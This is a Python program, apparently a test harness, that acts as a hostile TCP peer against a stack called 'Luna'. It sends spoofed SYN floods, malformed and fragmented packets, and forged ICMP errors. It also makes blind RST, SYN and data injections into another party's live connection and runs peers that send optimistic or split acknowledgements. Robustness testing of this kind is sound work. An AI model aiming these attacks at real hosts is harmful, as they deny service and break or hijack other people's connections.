"""A hostile peer, as a program: one kind of attack at a fixed rate, until SIGTERM.

    python3 hostile_sender.py ATTACK RATE INTERFACE HEARD_INTERFACE DESTINATION_MAC SOURCE_MAC ADDRESS PORT VICTIM_ADDRESS VICTIM_PORT

RATE: frames per second, in bursts of up to 16. Prints `attacking` when it begins, and one line of JSON at the end. The
victim is an existing connection of somebody else, whose numbers are overheard where an attack needs them. Sources are
random, or of 10.66.0.0/16, whose way back has to lead to the interface, to somebody who does not answer for them.
"""

import json
import random
import resource
import select
import signal
import struct
import sys
import time

from packets import ACK, FIN, PSH, RST, SYN, URG, Segment, Wire, icmp_error, ip, ipv4, tcp

_BURST = 16
_PREBUILT = 4096
WINDOW_SCALE = 7  # Luna's, for buffers that grow to 4 MB
_NETWORK = ip("10.66.0.0")[:2]
_MSS = struct.pack("!BBH", 2, 4, 1460)
_SYN_OPTIONS = _MSS + struct.pack("!BBBB", 1, 3, 3, 7)  # and a window scale


class Target:
    def __init__(self, address, port, victim_address, victim_port):
        self.address, self.port = ip(address), int(port)
        self.victim, self.victim_port = ip(victim_address), int(victim_port)


def random_source(rng):
    """A unicast address that is nobody's here."""
    while True:
        octets = rng.randbytes(4)
        if 1 <= octets[0] <= 223 and octets[0] not in (10, 127):
            return octets


# --- Attacks of single packets, made beforehand. Each returns datagrams. ---


def strangers(rng, target, flags, count=_PREBUILT, source=random_source, **how):
    for _ in range(count):
        address, ports = source(rng), (rng.randrange(1024, 65536), target.port)
        segment = tcp(address, target.address, ports, rng.getrandbits(32), rng.getrandbits(32), flags, **how)
        yield ipv4(address, target.address, segment)


def syn_flood(rng, target):
    return strangers(rng, target, SYN, options=_SYN_OPTIONS)


def syn_flood_on_link(rng, target):
    """From addresses of the link that nobody has: each answer has to look for its neighbour."""
    source = lambda rng: target.address[:3] + bytes([rng.randrange(100, 250)])
    return strangers(rng, target, SYN, source=source, options=_SYN_OPTIONS)


def land(rng, target):
    segment = tcp(target.address, target.address, (target.port, target.port), rng.getrandbits(32), 0, SYN)
    return [ipv4(target.address, target.address, segment)]


def xmas(rng, target):
    return strangers(rng, target, FIN | PSH | URG)


def xmas_all(rng, target):
    return strangers(rng, target, 0xFF & ~RST)


def stray_acks(rng, target):
    return strangers(rng, target, ACK)


def bad_tcp_checksum(rng, target):
    return strangers(rng, target, SYN, bad_checksum=True)


def bad_ip_checksum(rng, target):
    for datagram in strangers(rng, target, SYN):
        yield ipv4(datagram[12:16], target.address, datagram[20:], bad_checksum=True)


def tiny_fragments(rng, target):
    """A SYN with data in pieces of 8 octets; half of them lack the last one."""
    for datagram in strangers(rng, target, SYN, count=_PREBUILT // 4, data=b"x" * 12):
        ident = rng.getrandbits(16)
        for at in range(0, 32, 8):
            more = 0x2000 if at < 24 or ident & 1 else 0
            yield ipv4(datagram[12:16], target.address, datagram[20:][at:at + 8], fragment=more | at // 8, ident=ident)


def icmp_flood(rng, target):
    """Errors about the victim's connection that quote numbers by chance: too big, port unreachable, time exceeded."""
    for index in range(_PREBUILT):
        kind, code, rest = ((3, 4, 600), (3, 3, 0), (11, 0, 0))[index % 3]
        quoted = ipv4(target.address, target.victim, struct.pack("!HHI", target.port, target.victim_port, rng.getrandbits(32)))
        yield ipv4(random_source(rng), target.address, icmp_error(kind, code, quoted, rest), protocol=1)


def icmp_noise(rng, target):
    """Errors about a connection of the kernel's that is none: they are of no use to Luna."""
    for index in range(_PREBUILT):
        quoted = ipv4(target.address, target.victim, struct.pack("!HHI", 22, rng.randrange(1024, 60000), rng.getrandbits(32)))
        yield ipv4(random_source(rng), target.address, icmp_error(3, 3, quoted), protocol=1)


# --- Attacks on the victim's connection, whose numbers are overheard. ---


class Blind:
    """Forges segments of the victim's. `make(numbers)`: seq, ack, flags, data; None of them is exactly what is next."""

    def __init__(self, wire, target, rng, make):
        self.wire, self.target, self.rng, self.make = wire, target, rng, make
        # Room for a frame or two: the kernel refuses the others before they cost anything.
        self.heard = wire.listen(receive_buffer=1, source_port=(target.port, target.victim_port))
        self.numbers = None

    def overhear(self):
        """What Luna said last: what it expects, and its own number."""
        try:
            while True:
                self.heard.recv(128)  # these have waited since the last time
        except BlockingIOError:
            pass
        if select.select([self.heard], [], [], 0.05)[0]:
            self.numbers = Segment(self.heard.recv(128))

    def frames(self, count):
        self.overhear()
        if self.numbers is None:
            return
        target = self.target
        for _ in range(count):
            seq, ack, flags, data = self.make(self.rng, self.numbers)
            segment = tcp(target.victim, target.address, (target.victim_port, target.port), seq, ack, flags, data=data)
            yield self.wire.frame(ipv4(target.victim, target.address, segment))


# The victim sends even counts of octets, so that an odd distance is never what is expected next, which would be no blind
# guess but a hit, and end the connection as RFC 5961 has it. What is expected moves on meanwhile: far into the window.
def in_window(rng, luna):
    window = luna.window << WINDOW_SCALE
    return luna.ack + 1 + 2 * rng.randrange(window // 8, max(window // 2 - 1, window // 8 + 1))


def out_of_window(rng, luna):
    return luna.ack + (1 << 31) - rng.randrange(1 << 28)


BLIND = {
    "rst_out_of_window": lambda rng, luna: (out_of_window(rng, luna), 0, RST, b""),
    "rst_in_window": lambda rng, luna: (in_window(rng, luna), 0, RST, b""),
    "syn_out_of_window": lambda rng, luna: (out_of_window(rng, luna), 0, SYN, b""),
    "syn_in_window": lambda rng, luna: (in_window(rng, luna), 0, SYN, b""),
    "data_in_window": lambda rng, luna: (in_window(rng, luna), luna.seq + (1 << 30), ACK | PSH, b"evil"),
    "ack_storm": lambda rng, luna: (in_window(rng, luna), luna.seq + rng.choice((1 << 24, -(1 << 24))), ACK, b""),
    "xmas_live": lambda rng, luna: (out_of_window(rng, luna), luna.seq, FIN | PSH | URG, b""),
}

PREBUILT = {make.__name__: make for make in (syn_flood, syn_flood_on_link, land, xmas, xmas_all, stray_acks, bad_tcp_checksum,
                                              bad_ip_checksum, tiny_fragments, icmp_flood, icmp_noise)}


class Prebuilt:
    def __init__(self, wire, target, rng, make):
        self.all = [wire.frame(datagram) for datagram in make(rng, target)]
        self.at = 0

    def frames(self, count):
        for _ in range(count):
            yield self.all[self.at]
            self.at = (self.at + 1) % len(self.all)


# --- Peers that shake hands, send, and acknowledge as no peer should. ---


class Peer:
    """One connection, without window scaling, so that windows are exact. Sends as much as Luna's takes, in segments of
    1000 octets."""

    SEGMENT = 1000

    def __init__(self, wire, target, index, rng):
        self.wire, self.target, self.rng = wire, target, rng
        self.address = _NETWORK + bytes([1, index + 1])
        self.ports = (20000 + rng.randrange(20000), target.port)
        self.next, self.received, self.acknowledged = rng.getrandbits(32), 0, 0
        self.una, self.room = self.next, 0
        self.open, self.progress, self.divided, self.turn = False, time.monotonic(), [], 0

    def make(self, flags, ack, window=65535, data=b"", options=b"", seq=None):
        seq = self.next if seq is None else seq
        segment = tcp(self.address, self.target.address, self.ports, seq, ack, flags, window, data, options)
        return self.wire.frame(ipv4(self.address, self.target.address, segment))

    def hear(self, segment):
        if segment.flags & RST:
            self.open = False
            return
        if segment.flags & SYN:
            self.next = self.una = segment.ack
            self.received = self.acknowledged = segment.seq + 1 & 0xFFFFFFFF
            self.open, self.room = True, segment.window
            return
        if (segment.ack - self.una & 0xFFFFFFFF) <= (self.next - self.una & 0xFFFFFFFF):
            if segment.ack != self.una:
                self.progress = time.monotonic()
            self.una, self.room = segment.ack, segment.window
        if segment.length and segment.seq == self.received:
            before = self.received
            self.received = self.received + segment.length & 0xFFFFFFFF
            if len(self.divided) < 1000:
                self.divided += [before + segment.length * part // 10 & 0xFFFFFFFF for part in range(1, 11)]

    def data(self, ack, window=65535):
        """The next segment of data, or without, when Luna has no room."""
        now = time.monotonic()
        if now - self.progress > 0.3:  # lost, or refused: again
            self.next, self.progress = self.una, now
        if (self.next - self.una & 0xFFFFFFFF) + self.SEGMENT > self.room:
            return self.make(ACK, ack, window)
        frame = self.make(ACK | PSH, ack, window, b"x" * self.SEGMENT)
        self.next = self.next + self.SEGMENT & 0xFFFFFFFF
        return frame


def optimistic(peer):
    """Acknowledges what it has not received: one in four beyond anything that was sent."""
    peer.turn += 1
    if peer.turn < 8:  # the handshake first
        return peer.data(peer.received)
    ahead = 1 << 24 if peer.turn % 4 == 0 else peer.rng.randrange(4) * peer.SEGMENT
    return peer.data(peer.received + ahead)


def division(peer):
    """Ten acknowledgements for each segment."""
    if peer.divided:
        return peer.make(ACK, peer.divided.pop(0))
    return peer.data(peer.received)


def window_stuffing(peer):
    """The window goes to nothing, to one octet, to little, and back, with each segment."""
    peer.turn += 1
    return peer.data(peer.received, (0, 1, 0, 1, 65535, 2, 100, 0)[peer.turn // 8 % 8])


def hoarding(peer):
    """Leaves a hole of one octet at the front and fills the window behind it with segments of one octet, two apart."""
    peer.turn += 1
    return peer.make(ACK | PSH, peer.received, data=b"x", seq=peer.next + 1 + peer.turn * 2 % max(peer.room, 2))


BEHAVIOUR = {"optimistic_acks": (optimistic, 16), "ack_division": (division, 16), "window_stuffing": (window_stuffing, 16),
             "hoarding": (hoarding, 2)}


class Peers:
    def __init__(self, wire, target, rng, behave, count):
        self.behave, self.heard = behave, wire.listen(destination_network=_NETWORK, receive_buffer=8 << 20)
        self.all = [Peer(wire, target, index, rng) for index in range(count)]
        self.found = {(peer.address, peer.ports[0]): peer for peer in self.all}
        self.turn = 0

    def hear(self):
        try:
            for _ in range(4 * _BURST):
                segment = Segment(self.heard.recv(128))
                peer = self.found.get((segment.destination, segment.destination_port))
                if peer is not None:
                    peer.hear(segment)
        except BlockingIOError:
            pass

    def frames(self, count):
        self.hear()
        for _ in range(count):
            peer = self.all[self.turn % len(self.all)]
            self.turn += 1
            yield self.behave(peer) if peer.open else peer.make(SYN, 0, options=_MSS, seq=peer.next - 1)

    def report(self):
        return {"open": sum(peer.open for peer in self.all), "peers": len(self.all)}

    def end(self):
        """Resets them all, wherever Luna is, so that the next attack finds the server as this one did."""
        for peer in self.all:
            for ahead in range(0, (peer.next - peer.una & 0xFFFFFFFF) + 1, Peer.SEGMENT):
                yield peer.make(RST, 0, seq=peer.una + ahead)


def attack_of(name, wire, target, rng):
    if name in PREBUILT:
        return Prebuilt(wire, target, rng, PREBUILT[name])
    if name in BLIND:
        return Blind(wire, target, rng, BLIND[name])
    behave, count = BEHAVIOUR[name]
    return Peers(wire, target, rng, behave, count)


def run(wire, attack, rate):
    """Paces against the clock; what a pause has missed is not made up for beyond two bursts."""
    ending = []
    signal.signal(signal.SIGTERM, lambda *_: ending.append(True))
    sent = refused = 0
    print("attacking", flush=True)
    started = due = time.monotonic()
    step = _BURST / rate
    while not ending:
        for frame in attack.frames(_BURST):
            if wire.send(frame):
                sent += 1
            else:
                refused += 1
        due = max(due + step, time.monotonic() - step)
        pause = due - time.monotonic()
        if pause > 0:
            time.sleep(pause)
    report = {"sent": sent, "refused": refused, "seconds": time.monotonic() - started}
    for frame in attack.end() if hasattr(attack, "end") else ():
        wire.send(frame)
    if hasattr(attack, "report"):
        report.update(attack.report())
    use = resource.getrusage(resource.RUSAGE_SELF)
    print(json.dumps(dict(report, cpu_seconds=use.ru_utime + use.ru_stime)), flush=True)


def main(name, rate, interface, heard_interface, destination_mac, source_mac, *where):
    wire = Wire(interface, heard_interface, destination_mac, source_mac)
    rng = random.Random(1)
    run(wire, attack_of(name, wire, Target(*where), rng), float(rate))


if __name__ == "__main__":
    main(*sys.argv[1:])
